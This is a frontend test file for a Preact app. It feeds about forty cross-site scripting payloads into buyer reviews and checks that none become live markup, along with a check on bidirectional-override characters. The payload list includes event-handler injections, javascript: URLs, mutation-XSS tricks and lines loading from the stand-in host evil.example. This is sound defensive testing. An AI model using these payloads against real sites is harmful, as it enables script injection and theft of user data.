import { screen } from '@testing-library/preact'
import { describe, expect, it } from 'vitest'
import { FakeApi } from './api/fake'
import { openApp } from './testing/app'

const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerover', 'onbegin']
const TAGS = ['img src=x', 'svg', 'input autofocus', 'details open', 'body', 'video src=x']
const PAYLOADS = [
  ...EVENTS.flatMap((event, at) => [
    `<${TAGS[at]} ${event}=hacked()>`,
    `"><${TAGS[at]} ${event}="hacked()">`,
    `<${TAGS[at]}/${event}=hacked()//`,
  ]),
  '<script>hacked()</script>',
  '<scr<script>ipt>hacked()</scr</script>ipt>',
  '<script src=//evil.example></script>',
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  '<iframe src="javascript:hacked()"></iframe>',
  '<a href="javascript:hacked()">сюда</a>',
  '[сюда](javascript:hacked())',
  '![x](https://evil.example/pixel.png)',
  '[1]: https://evil.example',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example)</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input type=submit></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hacked()>',
  '<template><img src=x onerror=hacked()></template>',
  '&lt;img src=x onerror=hacked()&gt;',
  '\\u003cimg src=x onerror=hacked()\\u003e',
  '{{constructor.constructor("hacked()")()}}',
  '${hacked()}',
  '<!--><img src=x onerror=hacked()>-->',
  '<![CDATA[<img src=x onerror=hacked()>]]>',
]
const STRANGE =
  'script,iframe,object,embed,base,meta[http-equiv],form[action],math,template,details'

function poison(): { fake: FakeApi; ids: string[] } {
  const fake = new FakeApi()
  const text = PAYLOADS.join('\n')
  const short = PAYLOADS[0] ?? ''
  const ids = []
  for (const [id, { data }] of fake.world.items) {
    Object.assign(data.row, { buyer: short, preview: text })
    Object.assign(data.row.product, { name: short })
    Object.assign(data.source, { buyer: short, text, pros: text, cons: text, tags: [short] })
    ids.push(id)
  }
  return { fake, ids }
}

function smuggled(): string[] {
  const handlers = [...document.querySelectorAll('*')].filter((one) =>
    [...one.attributes].some(
      ({ name, value }) => name.startsWith('on') || value.startsWith('javascript:'),
    ),
  )
  const foreign = [...document.querySelectorAll('[src],[href]')].filter((one) =>
    `${one.getAttribute('src')}${one.getAttribute('href')}`.includes('evil'),
  )
  const strange = [...document.body.querySelectorAll(STRANGE)]
  return [...handlers, ...foreign, ...strange].map(
    (one) => one.tagName + [...one.attributes].map(({ value }) => ` ${value}`).join(''),
  )
}

describe('words of buyers', () => {
  it('are forty ways of being markup', () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(40))

  it('stay words in the list and in the document', async () => {
    const { fake, ids } = poison()
    await openApp({ fake, path: `/app/inbox/all/${ids[0]}?panel=1` })
    expect((await screen.findAllByText(/<scr<script>ipt>/)).length).toBeGreaterThan(1)
    expect(smuggled()).toEqual([])
  })

  it('read as they were written, whatever signs turn them around', async () => {
    const { fake, ids } = poison()
    const [id = ''] = ids
    const item = fake.world.items.get(id)
    if (!item) throw new Error('no item')
    item.data.source.text = 'Хорошо\u202eохолп\u202c и\u200b точка'
    await openApp({ fake, path: `/app/inbox/all/${id}` })
    expect(await screen.findByText('Хорошо▯охолп▯ и▯ точка')).toBeTruthy()
    expect(document.body.textContent).not.toMatch(/[\u202a-\u202e\u200b]/)
  })
})
